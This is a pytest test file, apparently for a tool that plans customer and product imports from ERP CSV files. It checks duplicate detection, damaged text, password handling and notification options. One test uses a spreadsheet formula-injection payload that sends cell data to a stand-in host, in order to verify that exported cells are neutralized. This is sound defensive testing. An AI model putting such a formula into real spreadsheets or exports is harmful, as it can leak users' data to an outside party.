    near = customers(f"NEW1;Ana;ana@example.com;;N1\n0{first['erp_code']};Ana;b@example.com;;N2\n")
    ((field, code, _, lines, first_lines),) = near.statistics.suspicious
    assert (field, code, lines, first_lines) == ("erpCode", "nearly_known", 1, [3])
    assert "erpCode differs from one on the platform in zeros, case or punctuation only" in (
        near.folder / "summary.md"
    ).read_text("utf-8")
    (known,) = platform.rows("SELECT id FROM raw.price_lists")[0]
    lists = ("", known, "99999", "-1")
    named = (
        "".join(f"N{number};Ana;p{number}@example.com;{key};\n" for number, key in enumerate(lists)),
        CUSTOMERS.replace('"phone"', '"priceListId"'),
    )
    ((field, code, _, lines, first_lines),) = customers(*named).statistics.suspicious
    assert (field, code, lines, first_lines) == ("priceListId", "not_listed", 2, [4, 5])
    unproven = "ops.coverage SET verdict = 'unproven' WHERE resource = 'price_lists'"
    for change in ("raw.price_lists SET id = 'pl_1'", "raw.price_lists SET id = '9'", unproven):
        with duckdb.connect(platform.path) as warehouse:
            warehouse.execute(f"UPDATE {change}")
        assert bool(customers(*named).statistics.suspicious) == change.endswith("'9'"), change
    codes = ("007", "7", "Cé-1", "CÉ1", "X\xad9", "x9", "-", "70", "700")
    alike = customers("".join(f"{code};Ana;a{number}@example.com;;\n" for number, code in enumerate(codes)))
    assert alike.manifest.operations == len(codes)
    ((field, code, _, lines, first_lines),) = (
        reason for reason in alike.statistics.suspicious if "invisible" not in reason.words
    )
    assert (field, code, lines) == ("erpCode", "nearly_repeated", 6)
    assert list(first_lines) == [2, 3, 4, 5, 6]
    ambiguous = customers(rows[3] + "\n")
    assert fates(ambiguous) == {2: ("ambiguous", "")}
    assert ambiguous.manifest.operations == 0


def test_documents_without_a_number_are_compared_with_those_at_their_places(platform: Bridge) -> None:
    several = platform.rows(
        "SELECT erp_code, email, list(fiscal_name ORDER BY position) FROM raw.customers JOIN"
        " (SELECT customer_id AS id, fiscal_name, position FROM raw.customers__documents) USING (id)"
        " GROUP BY ALL HAVING count(*) = 2"
    )
    code, email, (first, second) = several[0]
    mapping = CUSTOMERS.replace('"phone"', '"documents[0].fiscalName"').replace(".number", ".fiscalName")
    mapping = mapping.replace('NIF" = "documents[0]', 'NIF" = "documents[1]')
    assert fates(customers(f"{code};;{email};{first};{second}\n", mapping)) == {2: ("exists_same", "")}
    assert fates(customers(f"{code};;{email};{second};{first}\n", mapping)) == {2: ("exists_differs", "")}


def test_a_file_of_which_the_intake_refuses_every_row_is_rejected_as_a_whole(platform: Bridge) -> None:
    made = customers("A\0;Ana;a@x.es;;\n")
    assert (made.exit_code, fates(made)) == (5, {2: ("rejected", "nul")})
    assert (made.folder / "rejects.csv").read_text("cp1252").count("\n") == 2
    adds_up(made)


def test_rows_of_the_platforms_list_that_were_refused_are_reported(unread: Bridge) -> None:
    unread.platform.state.add("customers", {"erpCode": "E007", "birthdate": 7})
    unread.pull("customers")
    made = customers("E007;Ana;ana@example.com;;N1\n")
    assert made.manifest.read is not None
    assert (made.manifest.read.rows, made.manifest.read.refused) == (6, 1)
    reported = (made.folder / "summary.md").read_text("utf-8")
    assert "\n1 row of the platform's list is in quarantine and was not compared (see ops.quarantine).\n" in reported
    assert "the push looks up each new customer again before it sends" in reported
    unread.platform.state.add("customers", {"erpCode": "E008", "birthdate": 7})
    unread.pull("customers")
    reported = (customers("E007;Ana;ana@example.com;;N1\n").folder / "summary.md").read_text("utf-8")
    assert "\n2 rows of the platform's list are in quarantine and were not compared" in reported


def test_no_cell_of_the_plans_files_runs_in_a_spreadsheet(unread: Bridge) -> None:
    """Issue 12, item 3: a name that somebody typed into the platform, and one in the file."""
    formula = '=HYPERLINK("http://x.test/?"&A1)'
    unread.platform.state.add("customers", {"erpCode": "E1", "firstName": formula, "email": "e1@x.es"})
    unread.pull("customers")
    quoted = formula.replace('"', '""')
    made = customers(f'E1;Ana;e1@x.es;;\nE1;"{quoted}";other@x.es;;\nE2;-5;no;;\nE3;"{quoted}";;;\n')
    alone = customers("E1;Ana;e1@x.es;;\n")
    (reported, *_) = people_rows(alone.folder / "differences.csv", DIFFERENCE_SCHEMA.names)
    assert f"'{formula}" in reported["platform_value"]
    for folder in (made.folder, alone.folder):
        for path in folder.glob("*.csv"):
            with path.open(encoding="cp1252" if path.name == "rejects.csv" else "utf-8-sig", newline="") as file:
                for row in csv.reader(file, delimiter="," if path.name == "lines.csv" else ";"):
                    assert [cell for cell in row if neutralize(cell) != cell] == [], path


def test_a_phone_that_the_platform_writes_in_another_way_is_the_same(platform: Bridge) -> None:
    first, second, *_ = platform.dicts("SELECT * FROM raw.customers ORDER BY id")
    platform.platform.state.change("customers", first["id"], {"phone": "0034600111222"})
    platform.platform.state.change("customers", second["id"], {"phone": "600 333 444"})
    pull(PullOptions(("customers",)))
    rows = "".join(
        f"{one['erp_code']};;{one['email']};{phone};\n"
        for one, phone in ((first, "+34 600-111-222"), (second, "600333445"))
    )
    assert fates(customers(rows)) == {2: ("exists_same", ""), 3: ("exists_differs", "")}


def test_differences_that_a_person_has_accepted_are_counted_and_not_listed(platform: Bridge) -> None:
    os.environ["DLT_PROJECT_DIR"] = str(Path.cwd())
    first, second, *_ = platform.dicts("SELECT * FROM raw.customers ORDER BY id")
    rows = f"{first['erp_code']};=Otra;{first['email']};;\n{second['erp_code']};Otra;{second['email']};1;\n"
    made = customers(rows, out=Path("before"))
    assert fates(made) == {2: ("exists_differs", ""), 3: ("exists_differs", "")}
    header, *found = (made.folder / "differences.csv").read_text("utf-8").splitlines()
    (work := Path("accepted.csv")).write_text("\n".join([header, *found[:1]]), "utf-8")
    made = customers(rows, out=Path("after"))
    assert fates(made) == {2: ("exists_same", ""), 3: ("exists_differs", "")}
    assert (made.folder / "differences.csv").read_text("utf-8").splitlines() == [header, *found[1:]]
    assert "1 difference not listed: accepted in accepted.csv" in (made.folder / "summary.md").read_text("utf-8")
    assert fates(customers(rows.replace("=Otra", "Nueva"), out=Path("new")))[2] == ("exists_differs", "")
    work.write_text(f"customer_id,field\n{second['id']},firstName\n{second['id']},phone\n", "utf-8")
    assert fates(customers(rows.replace(";1;", ";2;"), out=Path("any")))[3] == ("exists_same", "")
    work.write_text("")
    with pytest.raises(UsageError, match=r"differences\.csv into it, or remove it"):
        customers(rows, out=Path("empty"))


def test_a_new_customer_that_was_on_the_platform_before_is_pointed_out(platform: Bridge) -> None:
    first, *_ = platform.dicts("SELECT * FROM raw.customers ORDER BY id")
    platform.platform.state.remove("customers", first["id"])
    pull(PullOptions(("customers",)))
    made = customers(f"{first['erp_code']};Ana;{first['email']};;\nNEW;Eva;eva@example.com;;\n")
    (reason,) = made.statistics.suspicious
    assert (reason.code, reason.first) == ("was_there", [2])


def test_a_plan_moves_with_its_project(work: Path) -> None:
    made = variants(work, "1;1001;00038;18,00;7\n")
    assert json.loads((made.folder / "plan.json").read_text("utf-8"))["input"]["path"] == "in.csv"
    moved = work.with_name("moved")
    shutil.copytree(work, moved)
    os.environ["DLT_PROJECT_DIR"] = str(moved)
    assert Plan(moved / made.folder.name).manifest.input.path == str(moved / "in.csv")


def test_customers_need_a_warehouse_of_the_same_host(unread: Bridge) -> None:
    with pytest.raises(UsageError, match="no warehouse") as reported:
        customers("A;Ana;a@x.es;;\n")
    assert "orderbridge pull customers" in reported.value.hint
    unread.pull("price_lists")
    with pytest.raises(UsageError, match="has no customers read from the platform") as reported:
        customers("A;Ana;a@x.es;;\n")
    assert "orderbridge pull customers" in reported.value.hint
    unread.pull("customers")
    os.environ["SOURCES__LEGACY__BASE_URL"] = HOST
    with pytest.raises(UsageError, match="were read from") as reported:
        customers("A;Ana;a@x.es;;\n")
    assert "orderbridge pull customers" in reported.value.hint


def test_nobody_gets_a_message_unless_it_is_asked_for(platform: Bridge) -> None:
    silent, notified, mailed = (
        customers("A;Ana;a@x.es;;\nB;Bea;b@x.es;;\n", passwords=way, notify=notify)
        for way, notify in (("file", False), ("file", True), ("mail", False))
    )
    assert [made.manifest.messages for made in (silent, notified, mailed)] == [0, 2, 2]
    assert operations(silent)[0].body["notification"] == {"send": False, "withCredentials": False}
    assert operations(notified)[0].body["notification"] == {"send": True, "withCredentials": False}
    assert operations(silent)[0].password == "stored"
    assert "No customer gets a message" in (silent.folder / "summary.md").read_text()
    assert "will send 2 messages" in (mailed.folder / "summary.md").read_text()


def test_where_passwords_come_from_must_be_reported(platform: Bridge) -> None:
    with pytest.raises(UsageError, match="password") as reported:
        customers("A;Ana;a@x.es;;\n", passwords=None)
    for way in ("column", "mail", "file"):
        assert way in reported.value.hint
    made = customers("A;Ana;a@x.es;;\n", CUSTOMERS + '[passwords]\nmake = "file"\n', passwords=None)
    assert operations(made)[0].password == "stored"


def test_a_password_is_nowhere_in_the_plan(platform: Bridge) -> None:
    mapping = CUSTOMERS + '"Clave" = "password"\n'
    rows = "Código;Nombre;Correo;Teléfono;NIF;Clave\nA;Ana;a@x.es;;;hunter2\nB;;;;;hunter3\nC;Ana;c@x.es;;;hunter4\n"
    rows += "C;Ana;c@x.es;;;hunter4\nD;Ana;d@x.es;;;hunter5\nD;Ana;d@x.es;;;hunter6\n"
    made = make_plan(PlanOptions("customers", *written(Path.cwd(), rows, mapping)))
    assert [(one.keys["erpCode"], one.password) for one in operations(made)] == [("A", "input"), ("C", "input")]
    assert fates(made) == {
        3: ("rejected", "required"),
        5: ("merged", ""),
        6: ("rejected", "conflicting_lines"),
        7: ("rejected", "conflicting_lines"),
    }
    assert b"hunter" not in b"".join(files_of(made.folder).values())
    assert b"must be filled in again" in (made.folder / "rejects.csv").read_bytes()
    assert made.manifest.password_column == "Clave"
    adds_up(made)


def test_all_that_a_plan_lacks_is_named_at_once(unread: Bridge) -> None:
    """Issue 12, item 5: no warehouse yet, no source of passwords, no login mode."""
    del os.environ["SOURCES__LEGACY__LOGIN_MODE"]
    with pytest.raises(UsageError) as error:
        customers("A;Ana;a@x.es;;\n", passwords=None)
    for words in ("3 things are missing", "no warehouse at", "orderbridge pull customers", "--passwords", "login_mode"):
        assert words in str(error.value)


def printed(text: str) -> list[list[str]]:
    """The commands in a summary."""
    return [shlex.split(line)[1:] for line in text.splitlines() if line.startswith("    orderbridge ")]


@pytest.mark.parametrize("place", ["terminal", "summary.md"])
def test_the_commands_of_a_summary_work_as_printed(platform: Bridge, tmp_path: Path, place: str) -> None:
    """Issue 12, item 5: without a mapping file, the choice of passwords made on the command line."""
    (tmp_path / "in.csv").write_text("erpCode,firstName,email\nA,Ana,a@x.es\nB,,\n", "utf-8")
    env = dict(os.environ)
    options = ["--passwords", "file", "--notify-customers", "--out", "my plan"]
    done = command("plan", "customers", "in.csv", *options, env=env, cwd=tmp_path)
    assert done.code == 5, done.said
    folder = tmp_path / "my plan"
    text, cwd = (done.out, tmp_path) if place == "terminal" else ((folder / "summary.md").read_text("utf-8"), folder)
    push, plan_rejects = printed(text)
    pushed = command(*push, env=env, cwd=cwd)
    assert "1  confirmed" in pushed.out, pushed.said
    again = command(*plan_rejects, "--out", str(tmp_path / "again"), env=env, cwd=cwd)
    assert again.code == 5, again.said
    assert "1 line rejected" in again.out


def test_values_that_are_rarely_meant_are_pointed_out(work: Path) -> None:
    """Issue 12, item 5."""
    rows = "1;1;a;0;1\n1;2;b;-1,5;-2\n1;3;c\u200bx;2;3\n1;4;d;2,00;0\n1;5;e\x01;1;1\n"
    (work / "in.csv").write_text("Producto;Variante;Código;PVP;Existencias\n" + rows, "utf-8")
    (work / "mapping.toml").write_text(VARIANTS, "utf-8")
    made = make_plan(PlanOptions("variants", work / "in.csv", work / "mapping.toml"))
    found = {(reason.field, reason.code): reason.first for reason in made.statistics.suspicious}
    assert found == {("price", "not_positive"): [2, 3], ("stock", "negative"): [3], ("sku", "invisible"): [4, 6]}
    text = (made.folder / "summary.md").read_text("utf-8")
    assert "- 2 lines: price is zero or negative (lines 2, 3)\n" in text
    assert "\u200b" not in text
    os.environ |= {"SOURCES__LEGACY__STOCK_SEMANTICS": "increment"}
    mapping = VARIANTS.replace('"Existencias" = "stock"', '"Existencias" = { field = "stock", change = true }')
    made = variants(work, "1;1;a;1;-2\n", mapping)
    assert made.statistics.suspicious == []
    ((field, code, words, lines, first_lines),) = variants(work, "1;1;a;1;3\n" * 3, mapping).statistics.suspicious
    assert (field, code, lines, first_lines) == ("stock", "merged", 2, [3, 4])
    assert "is sent once" in words
    assert variants(work, "1;1;a;1;\n" * 2, mapping).statistics.suspicious == []


@pytest.mark.parametrize("text", ["x\u200b", "\ufeffx", "x\u202ey", "x\x07", "x\x85", "x\u2066y", "x\x1f", "a\u00adb"])
def test_characters_that_nobody_sees_are_found(text: str) -> None:
    table = pa.table({"lines": pa.array([[7]]), "path": ["/p"], "name": [msgspec.json.encode(text).decode()]})
    values = SuspiciousValues(frozenset())
    values.add(table)
    assert [(reason.code, reason.first) for reason in values.reasons()] == [("invisible", [7])]


@pytest.mark.parametrize(
    ("code", "found", "others"),
    [
        ("mojibake", ["José".encode().decode("cp1252"), "EspaÃ±a", "Cittâ€™", "Nº Âº", "Mu├▒oz"], ["JOÃO", "Âge"]),
        ("lost_letter", ["Mu?oz", "Ana Garc?a", "?lvarez"], ["Jos?", "Who? me", "http://x.es/a?b=1", "¿Qué?"]),
        ("null_word", ["NULL", "\\N", "NaN", "n/a", "(null)"], ["Null", "Nan", "NULL 2", "N", "\\\\N"]),
        ("date", ["01-nov", "Nov-11", "1-Sep", "01/11/2026", "2026-11-01"], ["1-11", "11-22-33", "mar-a", "5-NOVA"]),
        ("not_an_address", ["x", "a@b", "a@b.es, c@d.es", "mailto:a@b.es", "'a@b.es"], ["o'b@x.es", "ñ@ñ.es"]),
        ("no_digits", ["France", "–", "S/N"], ["+34 600", "France 12", "٠١"]),
    ],
)
def test_texts_that_a_program_has_damaged_are_pointed_out(code: str, found: list[str], others: list[str]) -> None:
    name = {"not_an_address": "email", "no_digits": "phone"}.get(code, "firstName")
    texts = [msgspec.json.encode(text).decode() for text in (*found, *others)]
    lines = pa.array([[line] for line in range(len(texts))])
    values = SuspiciousValues(frozenset())
    values.add(pa.table({"lines": lines, "path": ["/p"] * len(texts), name: texts}))
    (reason,) = values.reasons()
    assert (reason.field, reason.code, reason.lines) == (name, code, len(found))


@pytest.mark.parametrize(
    ("documents", "is_found"),
    [
        ([{"fiscalName": "Ana"}], True),
        ([{"number": "", "fiscalName": "Ana"}], True),
        ([{"number": " "}], True),
        ([{"number": None}], True),
        ([{"number": "N1"}, {"fiscalName": 'a"number":"N2'}], True),
        ([{"number": "N1"}, {"number": "N2", "isDefault": True}], False),
        ([{"number": 'N"1', "fiscalName": "a {b}"}], False),
        ([], False),
        (None, False),
    ],
)
def test_a_document_without_a_number_is_pointed_out_before_it_is_sent(documents: Any, is_found: bool) -> None:
    texts = [None if documents is None else msgspec.json.encode(documents).decode(), '[{"number":"1"}]']
    table = pa.table({"lines": pa.array([[7], [8]]), "path": ["/p"] * 2, "documents": pa.array(texts, pa.string())})
    values = SuspiciousValues(frozenset())
    values.add(table)
    found = [(reason.code, reason.words, reason.first) for reason in values.reasons()]
    assert found == [("document_number_missing", "a document has no number", [7])] * is_found


@pytest.mark.parametrize("text", ["Año – «x»", "line\nline\ttab", "日本", "c:\\b\\f", "\u00a0"])
def test_characters_that_people_use_are_not(text: str) -> None:
    table = pa.table({"lines": pa.array([[7]]), "path": ["/p"], "name": [msgspec.json.encode(text).decode()]})
    values = SuspiciousValues(frozenset())
    values.add(table)
    assert values.reasons() == []


def test_the_login_mode_must_be_reported(platform: Bridge) -> None:
    del os.environ["SOURCES__LEGACY__LOGIN_MODE"]
    with pytest.raises(UsageError, match="how customers log in"):
        customers("A;Ana;a@x.es;;\n")


def test_a_plan_of_another_read_of_the_platform_is_another_plan(platform: Bridge) -> None:
    first = customers("A;Ana;a@x.es;;\n")
    assert not customers("A;Ana;a@x.es;;\n").is_new
    platform.pull("customers")
    assert customers("A;Ana;a@x.es;;\n").manifest.plan_id != first.manifest.plan_id
    shutil.rmtree(first.folder)
